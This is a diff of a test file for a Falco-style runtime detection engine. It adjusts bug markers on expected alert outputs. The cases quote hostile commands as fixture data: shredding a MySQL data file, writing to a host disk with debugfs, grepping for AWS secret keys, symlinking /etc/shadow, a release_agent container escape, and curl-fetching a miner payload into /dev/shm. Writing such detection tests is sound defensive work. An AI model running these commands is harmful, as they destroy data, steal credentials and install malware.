@@ -41,16 +41,10 @@ def pod(container_id: str, name: str, image: str, pod_name: str, namespace: str)
             f"container_image_tag={tag} k8s_pod_name={pod_name} k8s_ns_name={namespace}")
 
 
-# The kernel sets EXE_WRITABLE when the exec'ing task owns the file or has CAP_DAC_OVERRIDE or
-# CAP_FOWNER (libs driver: extract__exe_writable / inode_owner_or_capable), so a root process
-# running a root-owned system binary reports it; the scenario format only sets it for binaries the
-# scenario wrote itself.
-EXE_WRITABLE_BUG = ("scenario format bug: sources/scenario_procs.py apply_image leaves EXE_WRITABLE out of "
-                    "a root exec of a root-owned binary (the drivers set it for the file's owner and for "
-                    "CAP_DAC_OVERRIDE/CAP_FOWNER holders)")
-SIP_NAME_BUG = ("engine bug: extract/syscall_fd.py _dns_name never has a value and nothing compares "
-                "fd.sip.name = NAME against the addresses NAME resolves to (libsinsp compare_domain via "
-                "sinsp_dns_manager::match); the scenario's dns: answers (Scenario.dns) never reach the replay")
+SIP_NAME_BUG = ("engine bug: fd.sip.name's value is the EitherEnd of names that resolve to the address "
+                "(libsinsp compare_domain via sinsp_dns_manager::match), but engine/operands.py "
+                "EITHER_END_FIELDS lacks fd.cip.name/fd.sip.name/fd.lip.name/fd.rip.name, so it is "
+                "compared as one scalar and '=' never holds")
 
 
 @dataclass(frozen=True, slots=True)
@@ -101,7 +95,7 @@ CASES = [
         "user_loginuid=-1 process=bash proc_exepath=/bin/bash parent=containerd-shim command=bash "
         "terminal=34816 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER "
         + pod("9e4f2a7c1d38", "orders", "registry.example.com/shop/orders:1.8.2", "orders-6d5f7b8c9-hx2qv",
-              "shop"),), output_bug=EXE_WRITABLE_BUG),
+              "shop"),)),
     Case("Contact K8S API Server From Container", (
         "Unexpected connection to K8s API Server from container | connection=10.244.1.17:51844->10.96.0.1:443 "
         "lport=51844 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 "
@@ -126,8 +120,7 @@ CASES = [
     Case("Remove Bulk Data from Disk", (
         "Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 "
         "user_loginuid=1001 process=shred proc_exepath=/usr/bin/shred parent=bash "
-        "command=shred -n 3 -z -u /var/lib/mysql/ibdata1 terminal=34820 exe_flags=EXE_WRITABLE " + HOST,),
-         output_bug=EXE_WRITABLE_BUG),
+        "command=shred -n 3 -z -u /var/lib/mysql/ibdata1 terminal=34820 exe_flags=EXE_WRITABLE " + HOST,)),
     Case("Create Symlink Over Sensitive Files", (
         "Symlinks created over sensitive files | target=/etc/shadow linkpath=/var/www/html/s.txt "
         "evt_type=symlinkat user=root user_uid=0 user_loginuid=-1 process=ln proc_exepath=/bin/ln parent=sh "
@@ -157,8 +150,7 @@ CASES = [
         "Debugfs launched started in a privileged container | evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=debugfs proc_exepath=/usr/sbin/debugfs parent=bash "
         "command=debugfs -w /dev/nvme0n1p1 terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER "
-        + pod("6f2a4c8e0d35", "toolbox", "docker.io/library/debian:12", "toolbox-5f6d7", "default"),),
-         output_bug=EXE_WRITABLE_BUG),
+        + pod("6f2a4c8e0d35", "toolbox", "docker.io/library/debian:12", "toolbox-5f6d7", "default"),)),
     Case("Detect release_agent File Container Escapes", (
         "Detect an attempt to exploit a container escape using release_agent file | "
         "file=/tmp/cgrp/release_agent cap_effective=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL "
@@ -182,7 +174,7 @@ CASES = [
         "evt_type=execve user=root user_uid=0 user_loginuid=-1 process=grep proc_exepath=/bin/grep parent=bash "
         "command=grep -ri aws_secret_access_key /root /home terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER "
         + pod("2f4d6b8a0c19", "build", "docker.io/library/node:20-bookworm", "runner-x7k2p-project-41-concurrent-0",
-              "gitlab-runner"),), output_bug=EXE_WRITABLE_BUG),
+              "gitlab-runner"),)),
     Case("Execution from /dev/shm", (
         "File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/dev/shm/.x/ "
         "proc_pcmdline=sh -c cd /dev/shm/.x && curl -so kdevtmpfsi http://198.51.100.60/k && chmod +x "
